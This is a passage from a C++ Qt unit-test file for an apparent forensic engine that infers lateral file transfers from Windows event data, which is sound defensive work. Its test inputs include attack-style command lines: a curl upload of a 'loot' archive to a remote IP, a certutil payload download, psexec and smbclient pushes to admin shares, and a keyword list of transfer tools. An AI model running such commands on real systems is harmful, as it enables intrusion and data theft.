                     "SELECT count(*) FROM accounts WHERE domain = 'CORP.LOCAL' AND name_key = 'LFISCHER' "
                     "AND sid = 'S-1-5-21-1-2-3-1118'"),
            int64_t(1));
        inference::TransferFilter f;
        f.account = "CORP\\lfischer";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(0));
    }

    void deterministic()
    {
        QByteArray b;
        b += process(kSrc, at(100), "{BBBBBBBB-0000-0000-0000-000000000200}", 3200,
            "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy  C:\\IT\\Tools \\\\WS6\\C$\\IT\\Tools Procmon64.exe /R:1 /W:1");
        b += pushBothEnds(100, "IT\\Tools\\Procmon64.exe", "C:\\IT\\Tools\\Procmon64.exe", 50080, "0x8000");
        b += pushBothEnds(300, "Windows\\Temp\\x.exe", "C:\\Windows\\Temp\\x.exe", 50081, "0x8001");
        b += fileCreate(kDst, at(400), "System", "C:\\ProgramData\\z.dll");
        b += netConnect(kDst, at(399), false, kSrcIp, 50082, kDstIp, 445);
        auto cs = makeCase(b);
        QVERIFY(cs);
        inference::InferenceEngine engine(*cs);
        const auto first = engine.run();
        const QString a = dump(*cs);
        const auto second = engine.run();
        QCOMPARE(dump(*cs), a);
        QCOMPARE(first.transfers, second.transfers);
        QCOMPARE(first.transfers, size_t(3));
        QVERIFY(!a.isEmpty());
    }

    void commandParser_data()
    {
        QTest::addColumn<QString>("cmd");
        QTest::addColumn<QString>("expected"); // host|file|push|remotePath ; joined by ' ; '
        QTest::newRow("copy to file") << "cmd.exe /c copy /y C:\\x\\a.exe \\\\WS6\\C$\\ProgramData\\b.exe"
                                      << "WS6|b.exe|push|ProgramData\\b.exe";
        QTest::newRow("xcopy to folder") << "xcopy /y /q C:\\x\\a.exe \\\\10.0.0.6\\C$\\Users\\Public\\"
                                         << "10.0.0.6|a.exe|push|Users\\Public\\a.exe";
        QTest::newRow("quoted cmd /c") << "cmd /c \"copy \"C:\\IT\\Tools\\p.exe\" \"\\\\WS7\\C$\\IT\\Tools\\\"\""
                                       << "WS7|p.exe|push|IT\\Tools\\p.exe";
        QTest::newRow("robocopy files") << "robocopy C:\\stage \\\\WS6\\ADMIN$\\Temp t1.exe t2.dll /R:0"
                                        << "WS6|t1.exe|push|Temp\\t1.exe ; WS6|t2.dll|push|Temp\\t2.dll";
        QTest::newRow("pull") << "copy \\\\FS1\\share\\drop\\x.zip C:\\Users\\u\\x.zip"
                              << "FS1|x.zip|pull|drop\\x.zip";
        QTest::newRow("Copy-Item")
            << "powershell -c Copy-Item -Path .\\w.dll -Destination FileSystem::\\\\WS6\\C$\\Windows\\w.dll"
            << "WS6|w.dll|push|Windows\\w.dll";
        QTest::newRow("Out-File") << "Out-File -Encoding ascii -FilePath \\\\ws6.corp.local\\C$\\Windows\\Tasks\\p.xml"
                                  << "ws6.corp.local|p.xml|push|Windows\\Tasks\\p.xml";
        QTest::newRow("psexec -c")
            << "C:\\ProgramData\\px64.exe \\\\WS6 -accepteula -s -r svc -c -f C:\\ProgramData\\tool.exe"
            << "WS6|tool.exe|push|tool.exe";
        QTest::newRow("psexec no copy") << "PsExec.exe \\\\WS6 -accepteula -s cmd /c gpupdate /force"
                                        << "";
        QTest::newRow("scp push") << "scp -P 2222 /tmp/t.bin root@10.0.0.9:/opt/t.bin"
                                  << "10.0.0.9|t.bin|push|/opt/t.bin";
        QTest::newRow("pscp pull") << "pscp.exe -pw x admin@srv1:/var/log/a.tgz C:\\a.tgz"
                                   << "srv1|a.tgz|pull|/var/log/a.tgz";
        QTest::newRow("curl upload") << "curl.exe -T C:\\loot\\db.7z http://10.0.0.9:8080/up/"
                                     << "10.0.0.9|db.7z|push|up/";
        QTest::newRow("certutil pull") << "certutil -urlcache -split -f http://10.0.0.8/p.exe C:\\Users\\Public\\p.exe"
                                       << "10.0.0.8|p.exe|pull|p.exe";
        QTest::newRow("smbclient put") << "smbclient //10.0.0.6/C$ -U admin -c 'put tool.exe Windows\\Temp\\tool.exe'"
                                       << "10.0.0.6|tool.exe|push|Windows\\Temp\\tool.exe";
        QTest::newRow("local copy") << "copy C:\\a.txt D:\\b.txt"
                                    << "";
        QTest::newRow("wildcard") << "copy C:\\x\\*.exe \\\\WS6\\C$\\x\\"
                                  << "";
    }

    void commandParser()
    {
        QFETCH(QString, cmd);
        QFETCH(QString, expected);
        QStringList got;
        for (const auto &m : inference::CommandParser::parse(cmd.toStdString()))
            got << QStringLiteral("%1|%2|%3|%4")
                       .arg(QString::fromStdString(m.host), QString::fromStdString(m.fileName),
                           QLatin1String(m.push ? "push" : "pull"), QString::fromStdString(m.remotePath));
        QCOMPARE(got.join(QStringLiteral(" ; ")), expected);
        // Rules skip (and hosts are not read for) command lines mayMoveFiles() rejects: it must
        // accept every one that parses to a move.
        if (!got.isEmpty())
            QVERIFY(inference::CommandParser::mayMoveFiles(cmd.toStdString()));
    }

    void caseInsensitiveSearch()
    {
        using inference::WinPath;
        // '/' and '\' are one character, ASCII letters match in either case.
        QVERIFY(WinPath::containsI("copy a //WS6/C$/x", "\\\\ws6\\c$"));
        QVERIFY(WinPath::containsI("xx SCP yy", "scp"));
        QVERIFY(WinPath::containsI("abc", ""));
        QVERIFY(!WinPath::containsI("ab", "abc"));
        QVERIFY(!WinPath::containsI("scq scp-", "scpx"));
        QVERIFY(WinPath::containsI("aaab", "aab")); // a partial match does not skip the next start
        QVERIFY(WinPath::containsAnyI("Start-BITSTransfer -Source x", {"\\\\", "start-bitstransfer"}));
        QVERIFY(WinPath::containsAnyI("x //h/s", {"rsync", "\\\\"}));
        QVERIFY(!WinPath::containsAnyI("notepad.exe C:\\a.txt \\x", {"\\\\", "scp", "rsync", "curl"}));
        QVERIFY(!WinPath::containsAnyI("cur", {"curl"}));
        QVERIFY(WinPath::containsAnyI("x", {"", "y"}));
        QVERIFY(inference::CommandParser::mayMoveFiles("CERTUTIL.EXE -urlcache -f http://h/p C:\\p"));
        QVERIFY(!inference::CommandParser::mayMoveFiles("C:\\Windows\\system32\\svchost.exe -k netsvcs"));
    }
};

QTEST_GUILESS_MAIN(TstInferenceRules)
#include "tst_inference_rules.moc"
